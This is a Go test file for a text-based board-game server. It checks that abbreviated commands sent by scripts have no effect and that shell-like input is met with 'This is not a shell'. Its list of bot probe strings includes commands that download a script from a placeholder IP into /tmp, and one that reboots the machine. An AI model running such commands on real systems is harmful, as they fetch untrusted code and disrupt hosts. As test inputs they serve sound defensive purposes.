package commands_test

import (
	"strings"
	"testing"

	"boardroom/commands"
	"boardroom/commands/acts"
	"boardroom/games/gamestest"
	"boardroom/world/people"
)

// TestScriptsTypeInFull types as a script what is short for a command that others hear or that
// changes something: each of its other names and of its beginnings, and each synonym. Nobody hears
// anything.
func TestScriptsTypeInFull(t *testing.T) {
	gamestest.Alone(t)
	for _, manner := range []commands.Manner{commands.Single, commands.Script, commands.Program} {
		e := newEvening(t)
		e.people("Ann", "Bob")
		e.types("Ann", "channel join general")
		e.types("Bob", "channel join general")
		e.types("Ann", "tell bob hello")
		e.types("Bob", "tell ann hello")
		e.types("Ann", "challenge bob sato first")
		e.types("Bob", "accept ann")
		for _, name := range []string{"Ann", "Bob"} {
			e.visits[name].shell.Leave()
		}
		e.arrive("Bob", people.Identity{Account: 2}, commands.Interactive)
		for _, short := range shortForms() {
			for _, rest := range []string{"", " bob hello", " sato", " -c 'uname -a'"} {
				e.arrive("Ann", people.Identity{Account: 1}, manner)
				e.told("Bob")
				e.visits["Ann"].shell.Line(short + rest)
				if told := e.told("Bob"); strings.Contains(told, "hello") || strings.Contains(told, "uname") || strings.Contains(told, "Ann") && !isComing(told) {
					t.Errorf("%q as a script is heard:\n%s", short+rest, told)
				}
				e.visits["Ann"].shell.Leave()
			}
		}
	}
}

// TestScriptsPlayInFull types moves as a script by what is short for a verb, or known for one:
// nothing is played, while questions and verbs in full are understood.
func TestScriptsPlayInFull(t *testing.T) {
	for _, manner := range []commands.Manner{commands.Single, commands.Script, commands.Program} {
		for _, test := range []struct{ game, short, full, played string }{
			{"sato", "jump b2 c2", "move b2 c2", "Ann moves from b2 to c2."},
			{"strategery", "occ 2x2 with 3 2 0 1", "occupy 2x2 with 3 2 0 1", "Ann occupies 2x2"},
			{"garrisons", "plac e5", "place e5", "Ann places a regiment on e5."},
		} {
			e := newEvening(t)
			e.people("Ann", "Bob")
			e.types("Ann", "challenge bob "+test.game+" first casual")
			e.types("Bob", "accept ann")
			e.visits["Ann"].shell.Leave()
			e.arrive("Ann", people.Identity{Account: 1}, manner)
			e.want("Ann", test.short, "! Nothing was done.", "type the whole word: "+strings.Fields(test.full)[0])
			e.want("Ann", test.full, test.played)
			if test.game == "sato" {
				e.want("Ann", "what is on ring c2", "Ring 2 has 12 hexes.")
			}
		}
		e := newEvening(t)
		e.people("Bob")
		e.arrive("Ann", e.account("Ann"), manner)
		e.types("Bob", "challenge ann strategery casual second")
		e.types("Ann", "accept bob")
		e.types("Ann", "occupy 2x2 with 3 2 0")
		e.want("Ann", "1", "Ann occupies 2x2") // answers what was asked
	}
}

// isComing says whether somebody is told of people who come and go and walk about, and of nothing
// else.
func isComing(told string) bool {
	for line := range strings.SplitSeq(told, "\n") {
		if !strings.Contains(line, "comes in") && !strings.Contains(line, "leaves") && !strings.Contains(line, "goes") {
			return false
		}
	}
	return true
}

// shortForms are what stands for a command that does more than look, but its name.
func shortForms() []string {
	var short []string
	vocabulary := acts.Vocabulary()
	for _, c := range vocabulary.Commands {
		if c.Does.Has(commands.Reads) {
			continue
		}
		short = append(short, c.Aliases...)
		for end := 1; end < len(c.Name); end++ {
			short = append(short, c.Name[:end])
		}
	}
	for phrase := range vocabulary.Synonyms {
		short = append(short, strings.TrimSuffix(strings.ReplaceAll(phrase, "GAME", "sato"), " …"))
	}
	return short
}

// TestAShellIsNotHere types what editors, scripts and programs that look for a shell send.
func TestAShellIsNotHere(t *testing.T) {
	e := newEvening(t)
	e.people("Bob")
	for _, line := range []string{
		`sh -c "cd /tmp; wget http://192.0.2.1/x.sh"`, "sh", "sh -s", "sh -lc 'uname -sm'", "bash", "bash -c id", "/bin/sh -c 'echo hi'", "/bin/busybox X",
		"enable", "system", "shell", "sudo reboot", "uname -a", "wget http://192.0.2.1/x", "python3 -c 'print(1)'", "/usr/bin/env python",
	} {
		e.arrive("guest", people.Identity{}, commands.Single)
		reply := e.visits["guest"].shell.Line(line)
		if told := e.told("guest"); !reply.Unclear || !strings.Contains(told, "This is not a shell") {
			t.Errorf("%q is answered %+v\n%s", line, reply, told)
		}
		e.visits["guest"].shell.Leave()
	}
	e.want("Bob", "sh -c hello", "This is not a shell")
}
